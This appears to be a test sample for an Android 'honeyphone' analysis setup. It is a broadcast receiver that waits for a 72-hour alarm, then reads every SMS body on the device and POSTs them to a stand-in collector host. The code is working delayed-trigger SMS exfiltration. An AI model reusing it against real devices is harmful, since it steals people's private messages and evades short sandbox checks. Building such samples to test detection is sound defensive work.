package dev.honeyphone.contract;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import android.util.Log;

import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.net.URLEncoder;

/** The 72 h alarm: record when it fired, then upload every SMS body. */
public class AlarmReceiver extends BroadcastReceiver {
    @Override
    public void onReceive(final Context context, Intent intent) {
        long t0 = context.getSharedPreferences("contract", Context.MODE_PRIVATE).getLong("t0", -1);
        long now = System.currentTimeMillis();
        ContractApp.write(context, "fired.txt", t0 + " " + now + "\n");
        Log.i(ContractApp.TAG, "HONEYPHONE_ALARM_FIRED t0=" + t0 + " now=" + now);
        final PendingResult pending = goAsync();
        new Thread(new Runnable() {
            @Override
            public void run() {
                try {
                    upload(context);
                } finally {
                    pending.finish();
                }
            }
        }).start();
    }

    static void upload(Context context) {
        StringBuilder bodies = new StringBuilder();
        try (Cursor c = context.getContentResolver().query(
                Uri.parse("content://sms"), new String[] {"body"}, null, null, null)) {
            while (c != null && c.moveToNext()) {
                bodies.append(c.getString(0)).append('\n');
            }
        } catch (Exception e) {
            Log.e(ContractApp.TAG, "sms query failed", e);
        }
        try {
            byte[] data = ("sms=" + URLEncoder.encode(bodies.toString(), "UTF-8")).getBytes("UTF-8");
            HttpURLConnection conn = (HttpURLConnection)
                    new URL("http://collector.contract.example/upload").openConnection();
            conn.setRequestMethod("POST");
            conn.setDoOutput(true);
            conn.setRequestProperty("Content-Type", "application/x-www-form-urlencoded");
            try (OutputStream out = conn.getOutputStream()) {
                out.write(data);
            }
            Log.i(ContractApp.TAG, "HONEYPHONE_UPLOAD status=" + conn.getResponseCode());
            conn.disconnect();
        } catch (Exception e) {
            Log.e(ContractApp.TAG, "upload failed", e);
        }
    }
}
